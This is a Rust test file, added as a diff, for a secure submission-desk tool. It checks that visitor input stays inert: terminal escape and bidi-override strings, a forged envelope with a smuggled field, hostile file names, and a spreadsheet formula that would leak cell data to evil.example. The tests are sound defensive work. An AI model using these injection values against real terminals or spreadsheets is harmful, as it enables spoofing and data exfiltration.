@@ -1,0 +1,80 @@
+//! Visitors who mean harm, and servers that were taken over.
+
+use dropsafe_form::{Answer, Answers, FieldName};
+use proptest::prelude::*;
+
+use dropsafe_desk::{sheet, terminal};
+
+use crate::desk::{Desk, Receiver, Sent};
+
+const WORST: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}txt.exe\u{2066}\u{200f}\r\u{8}";
+
+/// An envelope that no honest receiver would make: its form would not have let these characters through.
+fn forged(desk: &Desk, key: &dropsafe_envelope::RecipientSet, text: &str) {
+    use dropsafe_envelope::{Content, Padding, Record, Sealer};
+    let mut receiver = Receiver::new(&desk.path("spool"), key);
+    receiver.takes(&Sent { values: &[("alias", "honest")], ..Sent::default() });
+    let form = crate::desk::form();
+    let answers = ["alias", "message"].map(|name| (FieldName::new(name).unwrap(), Some(Answer::Text(text.to_owned()))));
+    let extra = (FieldName::new("not_asked").unwrap(), Some(Answer::Text("smuggled".into())));
+    let answers = Answers(answers.into_iter().chain([extra]).collect());
+    let mut sealer = Sealer::begin(&receiver.sealing, Vec::new());
+    sealer.start_file(&FieldName::new("files").unwrap(), text).unwrap();
+    sealer.write_file(b"x").unwrap();
+    sealer.end_file().unwrap();
+    let language = dropsafe_form::Language::english();
+    let receipt = "zoo zoo zoo zoo".parse().unwrap();
+    let content = Content::Submission { form: &form, language: &language, receipt, answers: &answers };
+    let record = Record { received: "2026-11-21".parse().unwrap(), stream: receiver.stream, sequence: 1, content };
+    std::fs::write(desk.path("forged.age"), sealer.finish(record, Padding::NextStep).unwrap()).unwrap();
+}
+
+#[test]
+fn nothing_that_a_visitor_writes_acts_on_the_terminal() {
+    let (desk, key) = Desk::with_key();
+    forged(&desk, &key, WORST);
+    desk.run(&["import", "spool", "forged.age"]).done();
+    for arguments in [&["list"][..], &["list", "--json"], &["show", "zoo"], &["show", "zoo", "--json"], &["export", "--json"]] {
+        let seen = desk.run(arguments).done();
+        let acting = seen.out.chars().find(|c| terminal::acts(*c) && *c != '\n');
+        assert_eq!(acting, None, "{arguments:?}: {}", seen.out);
+    }
+    let shown = desk.run(&["show", "zoo"]).done().out;
+    assert!(shown.contains(r"\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}txt.exe"), "it is visible: {shown}");
+    assert!(shown.contains("not_asked (not on the form)\n    smuggled"), "{shown}");
+
+    // The value itself is the same.
+    let json: serde_json::Value = serde_json::from_str(&desk.run(&["show", "zoo", "--json"]).done().out).unwrap();
+    assert_eq!(json["answers"]["message"], WORST);
+}
+
+#[test]
+fn names_of_files_on_a_stick_dont_act_either() {
+    let (desk, _) = Desk::with_key();
+    std::fs::create_dir(desk.path("stick")).unwrap();
+    std::fs::write(desk.path("stick/\u{1b}[2J\u{202e}\n.age"), "not an envelope").unwrap();
+    let import = desk.run(&["import", "stick"]);
+    assert_eq!(import.status, 1);
+    assert!(import.err.contains(r"failed: stick/\u{1b}[2J\u{202e}\n.age"), "{}", import.err);
+}
+
+#[test]
+fn formulas_stay_text_in_a_spreadsheet() {
+    let (desk, key) = Desk::with_key();
+    let mut receiver = Receiver::new(&desk.path("spool"), &key);
+    receiver.takes(&Sent { values: &[("alias", "=HYPERLINK(\"https://evil.example/?\"&A1)"), ("phone", "+44 20")], ..Sent::default() });
+    desk.run(&["import", "spool"]).done();
+    let csv = desk.run(&["export", "--csv"]).done().out;
+    assert!(csv.contains(r#""'=HYPERLINK(""https://evil.example/?""&A1)","'+44 20""#), "{csv}");
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
+
+    #[test]
+    fn a_guarded_cell_is_text_and_can_be_told_back(cell in any::<String>()) {
+        let guarded = sheet::guarded(&cell);
+        prop_assert!(!guarded.trim_start().starts_with(['=', '+', '-', '@']));
+        prop_assert_eq!(guarded.strip_prefix('\'').unwrap_or(&guarded), cell.as_str());
+    }
+}
